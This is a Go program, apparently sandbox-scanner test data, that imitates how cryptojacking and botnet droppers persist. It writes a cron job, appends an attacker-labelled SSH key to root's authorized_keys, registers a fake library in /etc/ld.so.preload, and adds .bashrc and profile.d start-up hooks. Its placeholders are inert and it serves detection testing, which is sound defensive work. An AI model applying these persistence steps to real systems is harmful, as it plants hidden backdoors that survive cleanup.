// Command persistence imitates what cryptojacking and botnet droppers do
// to survive a restart or a cleanup: a cron job, an attacker SSH key, a
// preloaded library (a process hider) and a shell start-up hook.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/sandscan/sandscan/testdata/behaviours/internal/guard"
)

const attackerKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISandscanTestKeyOnlyDoesNotOpenAnythingX attacker@example\n"

func main() {
	guard.Require("persistence")
	steps := []struct {
		path    string
		content string
		mode    os.FileMode
		append  bool
	}{
		{"/etc/cron.d/sysupdate", "*/5 * * * * root /usr/local/bin/persistence >/dev/null 2>&1\n", 0o644, false},
		{"/root/.ssh/authorized_keys", attackerKey, 0o600, true},
		{"/usr/local/lib/libsystem.so", "not really a shared object\n", 0o755, false},
		{"/etc/ld.so.preload", "/usr/local/lib/libsystem.so\n", 0o644, false},
		{"/root/.bashrc", "(/usr/local/bin/persistence &) >/dev/null 2>&1\n", 0o644, true},
		{"/etc/profile.d/sysupdate.sh", "(/usr/local/bin/persistence &) >/dev/null 2>&1\n", 0o644, false},
	}
	for _, s := range steps {
		if err := write(s.path, s.content, s.mode, s.append); err != nil {
			fmt.Println("persistence:", err)
			continue
		}
		fmt.Println("persistence: wrote", s.path)
	}
}

func write(path, content string, mode os.FileMode, appendTo bool) error {
	dirMode := os.FileMode(0o755)
	if strings.HasPrefix(path, "/root/") {
		dirMode = 0o700 // like ~/.ssh
	}
	if err := os.MkdirAll(filepath.Dir(path), dirMode); err != nil {
		return err
	}
	flags := os.O_WRONLY | os.O_CREATE | os.O_TRUNC
	if appendTo {
		flags = os.O_WRONLY | os.O_CREATE | os.O_APPEND
	}
	f, err := os.OpenFile(path, flags, mode)
	if err != nil {
		return err
	}
	if _, err := f.WriteString(content); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}
